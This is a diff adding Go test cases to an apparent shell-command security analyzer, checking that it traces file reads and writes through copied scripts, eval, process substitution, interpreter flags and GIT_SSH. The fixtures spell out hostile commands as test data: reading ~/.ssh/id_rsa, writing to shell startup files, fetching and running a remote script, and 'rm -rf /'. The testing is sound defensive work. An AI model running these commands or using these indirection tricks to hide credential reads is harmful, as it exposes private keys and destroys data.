@@ -79,6 +79,24 @@ func TestFilesRun(t *testing.T) {
 		{name: "go run", cmd: "go run x.go", files: map[string]string{"x.go": `os.WriteFile("/home/u/.zshrc", b, 0o644)`}, writes: []string{"/home/u/.zshrc"}},
 		{name: "awk -f", cmd: "awk -f x.awk data", files: map[string]string{"x.awk": `{ print > "/home/u/.profile" }`}, writes: []string{"/home/u/.profile"}},
 		{name: "an absent file runs nothing", cmd: "sh x.sh", files: nil, not: []string{"~/.ssh/id_rsa"}},
+		{name: "chmod changes no text", cmd: "chmod +x x.sh && ./x.sh", files: map[string]string{"./x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
+		{name: "a copy holds its source's text", cmd: "cp evil.txt x.sh && bash x.sh", files: map[string]string{"evil.txt": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
+		{name: "a copy into a directory", cmd: "cp evil.sh bin/ && bin/evil.sh", files: map[string]string{"evil.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
+		{name: "a directory's copy", cmd: "cp -r tmpl new && new/x.sh", files: map[string]string{"tmpl/x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
+		{name: "cat into a file copies", cmd: "cat evil.txt > x.sh; sh x.sh", files: map[string]string{"evil.txt": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
+		{name: "appended text", cmd: "echo 'cat \\' > x.sh; echo '~/.ssh/id_rsa' >> x.sh; sh x.sh", reads: []string{"~/.ssh/id_rsa"}},
+		{name: "sh -c $(cat FILE)", cmd: `sh -c "$(cat x.sh)"`, files: map[string]string{"x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
+		{name: "bash <(cat FILE)", cmd: `bash <(cat x.sh)`, files: map[string]string{"x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
+		{name: "eval $(< FILE)", cmd: `eval "$(< x.sh)"`, files: map[string]string{"x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
+		{name: "source <(cat FILE)", cmd: `source <(cat x.sh)`, files: map[string]string{"x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
+		{name: "python3 <(cat FILE)", cmd: `python3 <(cat x.py)`, files: map[string]string{"x.py": "open('~/.ssh/id_rsa')"}, reads: []string{"~/.ssh/id_rsa"}},
+		{name: "python -m a module here", cmd: "python3 -m tools.leak", files: map[string]string{"tools/leak.py": "open('~/.ssh/id_rsa')"}, reads: []string{"~/.ssh/id_rsa"}},
+		{name: "python -m a package here", cmd: "python3 -m leak", files: map[string]string{"leak/__main__.py": "open('~/.ssh/id_rsa')"}, reads: []string{"~/.ssh/id_rsa"}},
+		{name: "node -r", cmd: "node -r ./pre.js app.js", files: map[string]string{"./pre.js": "fs.readFileSync('~/.ssh/id_rsa')"}, reads: []string{"~/.ssh/id_rsa"}},
+		{name: "deno run", cmd: "deno run -A x.ts", files: map[string]string{"x.ts": "Deno.readTextFile('~/.ssh/id_rsa')"}, reads: []string{"~/.ssh/id_rsa"}},
+		{name: "uv run x.py", cmd: "uv run --with rich x.py", files: map[string]string{"x.py": "open('~/.ssh/id_rsa')"}, reads: []string{"~/.ssh/id_rsa"}},
+		{name: "poetry run", cmd: "poetry run python x.py", files: map[string]string{"x.py": "open('~/.ssh/id_rsa')"}, reads: []string{"~/.ssh/id_rsa"}},
+		{name: "GIT_SSH is a program", cmd: "GIT_SSH=./x.sh git fetch", files: map[string]string{"./x.sh": "cat ~/.ssh/id_rsa"}, reads: []string{"~/.ssh/id_rsa"}},
 	}
 	for _, tt := range tests {
 		a, _ := analyzeWith(tt.cmd, tt.files)
@@ -142,6 +160,11 @@ func TestFilesHidden(t *testing.T) {
 		{"sh x.sh", FileAbsent, false},
 		{"./x.sh", FileUnreadable, true},
 		{"./x.sh", FileAbsent, false},
+		{"sed -i 's/^#//' x.sh && sh x.sh", FileAbsent, true},
+		{"curl -so x.sh https://x.example/i && sh x.sh", FileAbsent, true},
+		{"tar xf a.tar && sh x.sh", FileAbsent, true},
+		{"git pull && sh x.sh", FileAbsent, false},
+		{"rm -f x.sh; sh x.sh", FileAbsent, false},
 	} {
 		f := &fakeFiles{status: map[string]FileStatus{"x.sh": tc.status, "./x.sh": tc.status}}
 		a := analyze(tc.cmd+"; rm -rf /", Options{Files: f})
@@ -151,6 +174,15 @@ func TestFilesHidden(t *testing.T) {
 		if !slices.Contains(a.Lines, "rm -rf /") {
 			t.Errorf("%q: the rest of the command was not analysed: %q", tc.cmd, a.Lines)
 		}
+	}
+	// A script guard cannot parse: nothing of it was analysed.
+	if a, _ := analyzeWith("sh x.sh", map[string]string{"x.sh": "echo ok\nfor f in *; echo $f"}); !errors.Is(a.Err, ErrHidden) ||
+		!strings.Contains(a.Err.Error(), "line 2") {
+		t.Errorf("a script that does not parse: %v", a.Err)
+	}
+	// crontab -e with an editor the command sets writes the table.
+	if a, _ := analyzeWith("EDITOR='sed -i 1i…' crontab -e", nil); !errors.Is(a.Err, ErrHidden) {
+		t.Errorf("crontab -e with EDITOR: %v", a.Err)
 	}
 	// A script too large to read whole: the first bytes are not analysed
 	// as if they were all of it.
